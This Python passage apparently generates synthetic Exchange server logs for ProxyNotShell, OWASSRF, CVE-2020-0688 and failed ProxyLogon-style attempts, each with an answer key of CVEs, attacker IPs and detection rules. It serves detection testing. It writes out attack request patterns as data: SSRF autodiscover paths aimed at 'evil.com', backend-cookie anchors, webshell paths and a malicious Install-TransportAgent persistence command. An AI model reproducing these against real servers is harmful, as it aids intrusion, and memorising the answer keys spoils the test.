    site.files.append(DroppedFile(shell_path, chopper(atk.key), write))
    rules = ["proxynotshell-autodiscover-powershell", "exchange-writes-script-file"]
    if rng.random() < 0.5:  # persistence that survives the shell's removal
        name = rng.choice(("Exchange Message Filter", "Transport Rule Helper", random_name(rng)))
        params = f'-Name "{name}" -TransportAgentFactory "Microsoft.Exchange.Transport.Agent.{random_name(rng)}Factory" -AssemblyPath "C:\\Windows\\Temp\\{random_name(rng)}.dll"'  # noqa: E501 (a log line as written)
        site.events.append(_cmdlet_event(site, write + timedelta(minutes=9), "Install-TransportAgent", params))
        rules.append("transport-agent-installed")
    rules += _post_exploitation(site, write + timedelta(minutes=2), "MSExchangePowerShellAppPool", dump=rng.random() < 0.5)
    return {
        "verdict": "compromised",
        "cves": ["CVE-2022-41040", "CVE-2022-41082"],
        "ips": [atk.ip],
        "user_agents": [atk.ua],
        "webshell": "C:\\" + "\\".join(shell_path),
        "rules": sorted(set(rules)),
    }


def owassrf(site: Site, start: datetime) -> dict[str, object]:
    rng = site.rng
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36"
    atk = new_attacker(site, start, (ua, "python-requests/2.28.1"))
    user = f"{site.domain.split('.')[0].upper()}\\{rng.choice(site.users)}"
    mailbox = rng.choice(("mastermailbox%40outlook.com", "mastermailbox@outlook.com", f"{random_name(rng, 6).lower()}%40{site.domain}"))
    t = start
    for _ in range(rng.randint(3, 8)):
        t += timedelta(seconds=rng.uniform(1, 20))
        site.requests.append(Request(t, "POST", f"/owa/{mailbox}/powershell", "", user, atk.ip, atk.ua, 200))
        site.rps_http.append(_rps_http(site, t + timedelta(milliseconds=300), user, atk.ip, atk.ua, 200))
    rules = ["owassrf-owa-powershell", "owassrf-rps-http-clientinfo"]
    rules += _post_exploitation(site, t + timedelta(minutes=1), "MSExchangePowerShellAppPool", dump=rng.random() < 0.5)
    return {
        "verdict": "compromised",
        "cves": ["CVE-2022-41080", "CVE-2022-41082"],
        "ips": [atk.ip],
        "user_agents": [atk.ua],
        "rules": sorted(set(rules)),
    }


def cve_2020_0688(site: Site, start: datetime) -> dict[str, object]:
    rng = site.rng
    atk = new_attacker(site, start, (BROWSER_UAS[0], "python-requests/2.22.0"))
    user = f"{site.domain.split('.')[0].upper()}\\{rng.choice(site.users)}"
    t = start
    for _ in range(rng.randint(1, 4)):
        t += timedelta(seconds=rng.uniform(2, 40))
        payload = random_name(rng, rng.randint(200, 600)).replace("x", "%2B").replace("y", "%2F")
        query = f"__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={payload}"
        site.requests.append(Request(t, "GET", "/ecp/default.aspx", query, user, atk.ip, atk.ua, 500))
    return {
        "verdict": "exploited",
        "cves": ["CVE-2020-0688"],
        "ips": [atk.ip],
        "user_agents": [atk.ua],
        "rules": ["cve-2020-0688-viewstate"],
    }


def attempt_only(site: Site, start: datetime) -> dict[str, object]:
    """Internet scanners and failed exploit tries against a patched server: nothing worked."""
    rng = site.rng
    ips = [attacker_ip(rng) for _ in range(rng.randint(2, 4))]
    published = rng.random() < 0.5
    if published:
        ips[0] = rng.choice(("104.140.114.110", "80.92.205.81", "5.254.43.18", "86.48.6.69"))  # published HAFNIUM/GTSC addresses
    t = start
    for ip in ips:
        t += timedelta(minutes=rng.randint(5, 600))
        be = f"a]@{site.fqdn}:444"
        site.requests.append(
            Request(
                t,
                "POST",
                f"/ecp/{rng.choice(string.ascii_lowercase)}.js",
                "",
                "",
                ip,
                "python-requests/2.25.1",
                500,
                anchor=f"ServerInfo~{be}/autodiscover/autodiscover.xml?#",
                routing_hint="X-BEResource-Cookie",
            )
        )
        site.requests.append(
            Request(
                t + timedelta(seconds=3),
                "GET",
                "/owa/auth/x.js",
                "",
                "",
                ip,
                rng.choice(BROWSER_UAS),
                500,
                anchor="ServerInfo~localhost/ecp/default.flt?",
                routing_hint="X-AnonResource-Backend-Cookie",
                target="localhost",
            )
        )
        site.requests.append(
            Request(
                t + timedelta(seconds=9),
                "POST",
                "/autodiscover/autodiscover.json",
                "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
                "",
                ip,
                "python-requests/2.26.0",
                401,
            )
        )
        for name in rng.sample(("errorEE.aspx", "OutlookEN.aspx", "supp0rt.aspx", "shell.aspx", "discover.aspx", "HttpProxy.aspx"), 3):
            folder = rng.choice(("/owa/auth/", "/aspnet_client/", "/aspnet_client/system_web/"))
            site.requests.append(
                Request(
                    t + timedelta(seconds=rng.randint(10, 120)),
                    "GET",
                    folder + name,
                    "",
                    "",
                    ip,
                    rng.choice(BROWSER_UAS),
                    404,
                    proxied=False,
                )
            )
    return {
        "verdict": "attempted",
        "cves": [],
        "ips": ips,
        "user_agents": [],
        "max_severity": "medium",
        "rules": ["proxylogon-ssrf-autodiscover", "proxyshell-autodiscover-ssrf", "webshell-request", "proxylogon-ecp-js-post"]
        + (["known-attacker-ip"] if published else []),
    }


SCENARIOS = {
    "proxylogon": (
        proxylogon,
        datetime(2021, 2, 26),
        ("15.1.2176.2", "15.1.2106.2", "15.2.792.3", "15.2.721.2", "15.0.1497.2", "15.1.1979.3"),
    ),
    "proxyshell": (proxyshell, datetime(2021, 8, 10), ("15.1.2176.9", "15.2.792.10", "15.1.2242.4", "15.2.858.5")),
    "proxynotshell": (proxynotshell, datetime(2022, 9, 20), ("15.1.2375.7", "15.2.986.5", "15.1.2507.6", "15.2.1118.7")),
    "owassrf": (owassrf, datetime(2022, 12, 5), ("15.1.2375.7", "15.2.986.5", "15.1.2507.6", "15.2.1118.7")),
    "cve-2020-0688": (cve_2020_0688, datetime(2020, 3, 2), ("15.1.1847.3", "15.1.1913.5", "15.2.464.5", "15.0.1497.2")),
    "attempt-only": (attempt_only, datetime(2021, 3, 10), ("15.1.2176.9", "15.2.792.10", "15.2.858.5")),
    "benign": (None, datetime(2023, 1, 9), ("15.2.1118.7", "15.1.2507.6", "15.2.1258.12")),
}
